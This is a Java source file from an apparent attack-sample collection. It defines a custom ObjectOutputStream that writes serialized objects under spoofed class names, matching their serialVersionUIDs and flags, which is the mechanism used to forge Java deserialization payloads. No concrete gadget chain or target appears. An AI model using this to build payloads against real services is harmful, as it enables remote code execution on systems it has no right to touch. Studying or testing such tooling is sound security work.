package io.understudy.museum.attacks;

import java.io.ByteArrayOutputStream;
import java.io.Externalizable;
import java.io.IOException;
import java.io.ObjectOutputStream;
import java.io.ObjectStreamClass;
import java.io.ObjectStreamConstants;
import java.io.ObjectStreamField;
import java.util.Arrays;

/** Writes objects as JDK streams have them, and stand-ins under the names of what nobody can make an object of. */
final class PayloadStream extends ObjectOutputStream {

    private PayloadStream(ByteArrayOutputStream out) throws IOException {
        super(out);
        enableReplaceObject(true);
    }

    static byte[] bytes(Object payload) throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (PayloadStream out = new PayloadStream(bytes)) {
            out.writeObject(payload);
        }
        return bytes.toByteArray();
    }

    @Override
    protected Object replaceObject(Object object) {
        return object instanceof Later later ? later.object() : object;
    }

    @Override
    protected void writeClassDescriptor(ObjectStreamClass description) throws IOException {
        Class<?> type = description.forClass();
        WrittenAs name = type.getAnnotation(WrittenAs.class);
        if (name == null) {
            super.writeClassDescriptor(description);
            return;
        }
        writeUTF(name.value());
        writeLong(version(name.value()));
        writeByte(flags(type));
        ObjectStreamField[] fields = description.getFields();
        writeShort(fields.length);
        for (ObjectStreamField field : fields) {
            writeByte(field.getTypeCode());
            writeUTF(field.getName());
            if (!field.isPrimitive()) {
                writeObject(field.getTypeString());
            }
        }
    }

    private static long version(String className) {
        try {
            Class<?> type = Class.forName(className, false, PayloadStream.class.getClassLoader());
            return ObjectStreamClass.lookupAny(type).getSerialVersionUID();
        } catch (ClassNotFoundException | LinkageError e) {
            return 1;
        }
    }

    private static int flags(Class<?> type) {
        if (Externalizable.class.isAssignableFrom(type)) {
            return ObjectStreamConstants.SC_EXTERNALIZABLE | ObjectStreamConstants.SC_BLOCK_DATA;
        }
        boolean writes = Arrays.stream(type.getDeclaredMethods())
                .anyMatch(method -> method.getName().equals("writeObject"));
        return ObjectStreamConstants.SC_SERIALIZABLE | (writes ? ObjectStreamConstants.SC_WRITE_METHOD : 0);
    }
}
